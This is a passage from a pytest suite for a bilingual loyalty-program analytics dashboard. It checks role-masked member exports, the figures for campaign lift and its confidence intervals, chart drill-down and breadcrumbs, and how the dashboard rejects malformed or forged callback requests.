        log_in(dash, *staff(role))
        answer = dash.response(
            "members-grid-list-download",
            {"members-grid-list-download-button.n_clicks": 1},
            {"members-query.data": STORE_ALL},
        )["members-grid-list-download"]["data"]
        rows = list(
            csv_module.reader(io.StringIO(csv_body(str(answer["content"])).lstrip("\ufeff")))
        )
        assert len(rows) - 1 == members > 1
        assert all(re.fullmatch(phone, row[2]) for row in rows[1:] if row[2]), role
        client.get("/dashboards/logout")


def test_the_insight_charts_draw_every_run_and_segment(
    dash: DashClient, staff: Any, world: Scenario
) -> None:
    log_in(dash, *staff("marketer"))
    figure = dash.response("insights-chart-segments", {"insights-query.data": STORE_ALL})[
        "insights-chart-segments"
    ]["figure"]
    assert len(figure["data"]) == 6
    assert all(list(trace["x"]) == ["2026-01-31", "2026-02-28"] for trace in figure["data"])
    per_day = [sum(trace["y"][i] for trace in figure["data"]) for i in range(2)]
    assert per_day[0] == per_day[1] > 0
    clv = dash.response("insights-chart-clv", {"insights-query.data": STORE_ALL})[
        "insights-chart-clv"
    ]["figure"]
    assert clv["data"][0]["x"][0] == "0–50" and sum(clv["data"][0]["y"]) > 0


def test_without_insights_the_cards_say_so(
    dash: DashClient,
    staff: Any,
    db: Runtime,
    client: FlaskClient,
    channel_key: Any,
    staff_token: Any,
    auth: Any,
) -> None:
    dashboard_scenario.build(client, db, channel_key, staff_token, auth)
    sync_warehouse(db.engine, db.settings.warehouse_path)
    try:
        log_in(dash, *staff("marketer"))
        for lang in ("zh", "en"):
            layout = render(dash, "/dashboards/insights", f"?lang={lang}").json["response"]
            texts = texts_in(layout["_pages_content"]["children"])
            assert texts.count(i18n.t("insights.none", lang)) == 4, lang
            assert "insights-chart-segments" not in ids_in(layout)
            assert "insights-kpis" not in ids_in(layout)
            members = render(dash, "/dashboards/members", f"?lang={lang}").json["response"]
            assert "members-grid-list" in ids_in(members)
    finally:
        db.settings.warehouse_path.unlink(missing_ok=True)


# -- the campaign headline is the API's lift -------------------------------------------------


def _number(text: str) -> float:
    """A shown number back as a float: 1,234.56 / −12.3% / +4.0%."""
    return float(text.replace(",", "").replace("−", "-").replace("%", "").replace("+", ""))


def _note(children: Any, element_id: str) -> str:
    """The footer note of the KPI card `element_id`."""
    stack = [children]
    while stack:
        item = stack.pop()
        if isinstance(item, dict):
            props = item.get("props", item)
            if props.get("id") == element_id:
                return next(t for t in texts_in(props) if t.startswith("95% CI"))
            stack.extend(item.values())
        elif isinstance(item, list):
            stack.extend(item)
    raise AssertionError(f"no card {element_id}")


def _interval(note: str) -> tuple[float, float]:
    low, high = note.removeprefix("95% CI ").split(" ~ ")
    return _number(low), _number(high.split(" ")[0])


def test_the_campaign_headline_is_the_api_s_lift_for_the_same_data(
    dash: DashClient,
    staff: Any,
    world: Scenario,
    db: Runtime,
    client: FlaskClient,
    staff_token: Any,
    auth: Any,
) -> None:
    finance = auth(staff_token("finance"))
    api = client.get(f"/api/v1/campaigns/{CAMPAIGN}/lift", headers=finance)
    assert api.status_code == 200, api.get_data(as_text=True)
    lift = api.json
    log_in(dash, *staff("finance"))
    store = {"campaign": CAMPAIGN, "lang": "en"}
    answer = dash.response("campaigns-headline", {"campaigns-query.data": store})
    shown = answer["campaigns-headline"]["children"]

    incremental = kpi_value(shown, "campaigns-kpi-incremental-value")
    assert _number(incremental) == pytest.approx(lift["incremental_gmv_yuan"], abs=0.006)
    low, high = _interval(_note(shown, "campaigns-kpi-incremental"))
    api_interval = lift["incremental_gmv_yuan_interval"]
    assert low == pytest.approx(api_interval["low"], abs=0.006)
    assert high == pytest.approx(api_interval["high"], abs=0.006)
    cost = kpi_value(shown, "campaigns-kpi-cost-yuan-value")
    assert lift["points_cost"] > 0
    assert _number(cost) == pytest.approx(lift["points_cost_yuan"], abs=0.006)
    roi = kpi_value(shown, "campaigns-kpi-roi-value")
    assert _number(roi) == pytest.approx(lift["roi"] * 100, abs=0.051)
    roi_low, roi_high = _interval(_note(shown, "campaigns-kpi-roi"))
    assert roi_low == pytest.approx(lift["roi_interval"]["low"] * 100, abs=0.051)
    assert roi_high == pytest.approx(lift["roi_interval"]["high"] * 100, abs=0.051)
    sentence = kpi_value(shown, "campaigns-headline-sentence")
    includes_zero = api_interval["low"] <= 0 <= api_interval["high"]
    assert ("includes zero" in sentence) == includes_zero == ("includes zero" in lift["conclusion"])

    # The warehouse's figures themselves, unrounded: same members, groups and arithmetic.
    reader = WarehouseReader(db.settings.warehouse_path)
    try:
        headline = warehouse.campaign_headline(reader, CAMPAIGN, today(), 1)
    finally:
        reader.close()
    assert headline is not None and headline.effect is not None
    effect = headline.effect
    assert (effect.treated_members, effect.holdout_members) == (
        lift["treated_members"],
        lift["holdout_members"],
    )
    assert effect.holdout_members >= 2
    assert str(headline.measured_from) == lift["measured_from"]
    assert str(headline.measured_to) == lift["measured_to"]
    for name in ("difference", "treated_mean", "holdout_mean", "variance_reduction"):
        assert getattr(effect.gmv_fen, name) == pytest.approx(lift["gmv_fen"][name], rel=1e-9)
    assert effect.gmv_fen.bootstrap_interval.low == pytest.approx(
        lift["gmv_fen"]["bootstrap_interval"]["low"], rel=1e-9
    )
    assert effect.purchase_rate.difference == pytest.approx(
        lift["purchase_rate"]["difference"], rel=1e-9, abs=1e-12
    )

    # The same sentence in Chinese, and the before/after comparison labelled not causal.
    zh = dash.response("campaigns-headline", {"campaigns-query.data": {"campaign": CAMPAIGN}})
    zh_sentence = kpi_value(zh["campaigns-headline"]["children"], "campaigns-headline-sentence")
    assert ("包含零" in zh_sentence) == includes_zero
    assert "前后对比（非因果）" in texts_in(zh["campaigns-before-after"]["children"])
    assert "Before vs after (not causal)" in texts_in(answer["campaigns-before-after"]["children"])


def test_a_campaign_without_a_holdout_says_so_in_words(
    dash: DashClient,
    staff: Any,
    world: Scenario,
    db: Runtime,
    client: FlaskClient,
    staff_token: Any,
    auth: Any,
) -> None:
    admin = auth(staff_token("admin"))
    body = {
        "code": "DASH-NOHOLD",
        "name": "无对照组",
        "name_en": "No holdout",
        "starts_on": (world.today - timedelta(days=10)).isoformat(),
        "ends_on": (world.today - timedelta(days=2)).isoformat(),
        "budget_points": 1_000,
        "bonus_points": 5,
        "holdout_pct": 0,
    }
    created = client.post("/api/v1/campaigns", json=body, headers=admin)
    assert created.status_code == 201, created.get_data(as_text=True)
    sync_warehouse(db.engine, db.settings.warehouse_path)
    log_in(dash, *staff("marketer"))
    for lang, words in (("en", "no holdout: no causal estimate"), ("zh", "无对照组")):
        store = {"campaign": "DASH-NOHOLD", "lang": lang}
        answer = dash.response("campaigns-headline", {"campaigns-query.data": store})
        shown = answer["campaigns-headline"]["children"]
        assert words in kpi_value(shown, "campaigns-headline-sentence")
        assert kpi_value(shown, "campaigns-kpi-incremental-value") == "—"
    # The campaign with a holdout still gets a number.
    answer = dash.response("campaigns-headline", {"campaigns-query.data": {"campaign": CAMPAIGN}})
    assert (
        kpi_value(answer["campaigns-headline"]["children"], "campaigns-kpi-incremental-value")
        != "—"
    )


def test_the_excel_download_is_the_csv_rows_as_numbers_masked_for_the_role(
    dash: DashClient, staff: Any, world: Scenario
) -> None:
    import base64

    from openpyxl import load_workbook

    log_in(dash, *staff("marketer"))
    answer = dash.response(
        "insights-grid-atrisk-xlsx",
        {"insights-grid-atrisk-xlsx-button.n_clicks": 1},
        {"insights-query.data": STORE_ALL},
    )["insights-grid-atrisk-xlsx"]["data"]
    assert answer["filename"].endswith(".xlsx") and answer["base64"] is True
    book = load_workbook(io.BytesIO(base64.b64decode(answer["content"])))
    data, about = book.worksheets
    rows = list(data.iter_rows(values_only=True))
    csv_rows = list(csv_module.reader(io.StringIO(top_members_csv(dash).lstrip("\ufeff"))))
    assert [str(cell) for cell in rows[0]] == csv_rows[0]
    assert len(rows) == len(csv_rows) > 1
    cells = [str(cell) for row in rows[1:] for cell in row]
    assert any("****" in cell for cell in cells) and not any(
        re.fullmatch(r"1\d{10}", cell) for cell in cells
    )
    assert any(isinstance(cell, int | float) for row in rows[1:] for cell in row)
    assert str(next(about.iter_rows(values_only=True))[0]).startswith("memberhub-insights-atrisk")


def test_the_router_leaves_a_query_string_change_to_a_page_that_follows_it(
    dash: DashClient, staff: Any, world: Scenario
) -> None:
    """A breadcrumb or the back button changes only the query string: a page following
    its URL in place answers that itself, so the router draws it only for a new path."""
    log_in(dash, *staff("marketer"))
    search = "?from=2026-01-01&to=2026-01-31&channel=web"
    only_search = ["_pages_location.search"]
    for path in ("/dashboards/points", "/dashboards/", "/dashboards/channels"):
        skipped = render(dash, path, search, changed=only_search)
        assert skipped.status_code == 200
        assert "_pages_content" not in skipped.json["response"], path
        drawn = render(dash, path, search)
        assert "_pages_content" in drawn.json["response"], path
    # Campaigns draws its detail view as another layout: the router draws it every time.
    campaigns = render(dash, "/dashboards/campaigns", search, changed=only_search)
    assert "_pages_content" in campaigns.json["response"]


def test_a_malformed_callback_request_is_a_400_naming_the_field(
    dash: DashClient, client: FlaskClient, staff: Any, world: Scenario
) -> None:
    """Dash fails with a 500 on a request it cannot read; the gate answers first."""
    log_in(dash, *staff("marketer"))
    good = dash.body("points-kpis", {"points-query.data": STORE_ALL})
    assert client.post(CALLBACK_URL, json=good).status_code == 200
    bodies = {
        "body": ["not", "an", "object"],
        "output": {**good, "output": "nobody-here.children"},
        "outputs": {**good, "outputs": 7},
        "inputs": {**good, "inputs": 5},
        "state": {**good, "state": "x"},
    }
    for field_name, body in bodies.items():
        answer = client.post(CALLBACK_URL, json=body)
        assert answer.status_code == 400, (field_name, answer.get_data(as_text=True)[:200])
        assert answer.json["field"] == field_name
    missing = {key: value for key, value in good.items() if key != "inputs"}
    assert client.post(CALLBACK_URL, json=missing).json["field"] == "inputs"


def test_a_page_follows_its_own_address_in_place_in_the_same_language(
    dash: DashClient, staff: Any, world: Scenario
) -> None:
    log_in(dash, *staff("marketer"))
    store = {"from": "2026-01-01", "to": "2026-01-31"}

    def follow(search: str, pathname: str = "/dashboards/points", data: Any = store) -> Any:
        return dash.call(
            "points-head",
            {"view-url.search": search},
            {"view-url.pathname": pathname, "points-query.data": data},
        )

    moved = follow("?from=2026-01-01&to=2026-01-31&channel=web")
    assert moved.status_code == 200
    assert moved.json["response"]["points-query"]["data"] == {**store, "channel": "web"}
    assert "points-filter-bar" in json.dumps(moved.json["response"]["points-head"])
    # The view it shows already, another page's address (the router draws that one), a
    # change of language (the router again) or no store: nothing to do here.
    for answer in (
        follow("?from=2026-01-01&to=2026-01-31"),
        follow("?channel=web", pathname="/dashboards/channels"),
        follow("?from=2026-01-01&to=2026-01-31&lang=en"),
        follow("?channel=web", data=None),
    ):
        assert answer.status_code == 200 and answer.json["response"] == {}, answer.get_data()


def test_a_click_on_a_chart_narrows_the_page_and_the_breadcrumb_walks_back_up(
    dash: DashClient, staff: Any, world: Scenario
) -> None:
    log_in(dash, *staff("marketer"))
    store = STORE_ALL
    bars = dash.response("channels-chart-gmv", {"channels-query.data": store})
    codes = bars["channels-chart-gmv"]["figure"]["data"][0]["customdata"]
    assert "counter" in codes

    def click(chart: str, point: dict[str, Any], page: str = "channels") -> Any:
        return dash.call(
            "view-url",
            {f"{page}-chart-{chart}.clickData": {"points": [point]}},
            {f"{page}-query.data": store},
        )

    answer = click("gmv", {"customdata": "counter", "y": "柜台"})
    assert answer.status_code == 200
    search = dict(parse_qsl(answer.json["response"]["view-url"]["search"].lstrip("?")))
    assert search["channel"] == "counter" and search["to"] == store["to"] and "inst" not in search

    # A treemap node names its institution by id: the page drills down to it, a level
    # at a time (the company and its districts, then a district and its outlets).
    def tree_ids(query: dict[str, str]) -> list[str]:
        tree = dash.response("channels-chart-tree", {"channels-query.data": query})
        return list(tree["channels-chart-tree"]["figure"]["data"][0]["ids"])

    nodes = tree_ids(store)
    assert nodes and all(code.count("-") <= 1 for code in nodes)
    district = next(code for code in nodes if code.count("-") == 1)
    narrowed = click("tree", {"id": district, "label": "x"}).json["response"]
    assert dict(parse_qsl(narrowed["view-url"]["search"].lstrip("?")))["inst"] == district
    nodes = tree_ids({**store, "inst": district})
    assert nodes[0] == district and len(nodes) > 1
    outlet = next(code for code in nodes if code.count("-") == 2)
    narrowed = click("tree", {"id": outlet, "label": "x"}).json["response"]
    assert dict(parse_qsl(narrowed["view-url"]["search"].lstrip("?")))["inst"] == outlet

    # Forged or empty clicks change nothing.
    for point in ({"customdata": {"x": 1}}, {"id": "\u0000"}, {"customdata": "x" * 65}, {}):
        forged = click("gmv", point)
        assert forged.status_code == 204 or forged.json["response"] == {}, forged.json

    # The breadcrumb: company › district › outlet, each level above a link to it, and a
    # link that clears the institution; the channel likewise.
    search = f"?from={store['from']}&to={store['to']}&inst={outlet}&channel=counter"
    layout = render(dash, "/dashboards/channels", search).json["response"]["_pages_content"]
    crumbs = ids_in(layout)
    assert {"channels-crumb-inst-0", "channels-crumb-inst-1", "channels-crumb-clear-inst"} <= crumbs
    assert "channels-crumb-clear-channel" in crumbs

    def href(element_id: str) -> dict[str, str]:
        stack: list[Any] = [layout]
        while stack:
            item = stack.pop()
            if isinstance(item, dict):
                if item.get("id") == element_id:
                    return dict(parse_qsl(item["href"].split("?", 1)[1]))
                stack.extend(item.values())
            elif isinstance(item, list):
                stack.extend(item)
        raise AssertionError(element_id)

    assert href("channels-crumb-inst-0")["inst"] == "SH"
    assert href("channels-crumb-inst-1")["inst"] == outlet.rsplit("-", 1)[0]
    assert "inst" not in href("channels-crumb-clear-inst")
    assert href("channels-crumb-clear-inst")["channel"] == "counter"
    assert "channel" not in href("channels-crumb-clear-channel")
    assert f"{i18n.t('data_as_of', 'zh')} 20" in " ".join(texts_in(layout))


def test_typing_in_the_institution_dropdown_asks_the_server_for_matches(
    dash: DashClient, staff: Any, world: Scenario
) -> None:
    log_in(dash, *staff("marketer"))

    def options(search: str, current: str | None = None) -> list[str]:
        answer = dash.response(
            "channels-filter-inst",
            {"channels-filter-inst.search_value": search},
            {"channels-filter-inst.value": current, "channels-query.data": {}},
        )
        return [o["value"] for o in answer["channels-filter-inst"]["options"]]

    shortlist = options("")
    assert shortlist[0] == "SH" and all(code.count("-") == 1 for code in shortlist[1:])
    found = options("sh-hp-")
    assert found and all(code.startswith("SH-HP-") for code in found)
    assert options("no such place", "SH-JA-0001") == ["SH-JA-0001"]
